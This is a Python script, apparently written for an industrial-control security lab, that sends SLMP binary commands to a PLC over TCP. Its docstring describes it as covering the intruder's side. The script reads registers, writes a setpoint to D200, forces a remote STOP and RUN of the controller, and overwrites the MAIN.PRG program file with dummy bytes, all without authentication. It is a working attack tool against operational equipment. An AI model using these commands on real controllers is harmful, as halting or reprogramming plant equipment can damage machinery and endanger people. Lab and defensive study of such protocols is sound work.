#!/usr/bin/env python3
"""Sends SLMP commands one after the other (3E, binary, TCP): the engineering tool's and the intruder's side. Ours, no real program.

usage: slmp_send.py HOST PORT STEP...   STEP: type | read | write | stop | run | program
"""
import socket
import struct
import sys
import time

STEPS = {
    'type': [(0x0101, 0, b'')],
    'read': [(0x0401, 0, struct.pack('<I', 100)[:3] + b'\xa8' + struct.pack('<H', 10))],                  # D100, 10 words
    'write': [(0x1401, 0, struct.pack('<I', 200)[:3] + b'\xa8' + struct.pack('<HH', 1, 1850))],           # D200 = 1850
    'stop': [(0x1002, 0, struct.pack('<H', 3))],                                                          # remote STOP, forced
    'run': [(0x1001, 0, struct.pack('<HBB', 3, 0, 0))],                                                   # remote RUN, forced
    'program': [(0x1827, 0, b'\0\0\0\0\x01\x00\x00\x00' + struct.pack('<H', 8) + 'MAIN.PRG'.encode('utf-16-le')),
                (0x1829, 0, struct.pack('<HIH', 1, 0, 64) + bytes(range(64))),
                (0x182A, 0, struct.pack('<HH', 1, 2))],                                                   # open, write, close
}

with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5) as connection:
    for step in sys.argv[3:]:
        for command, subcommand, data in STEPS[step]:
            body = struct.pack('<HHH', 16, command, subcommand) + data
            connection.sendall(b'\x50\x00\x00\xff\xff\x03\x00' + struct.pack('<H', len(body)) + body)
            reply = connection.recv(4096)
            print(step, hex(command), 'end code', reply[9:11].hex(), reply[11:])
        time.sleep(0.5)
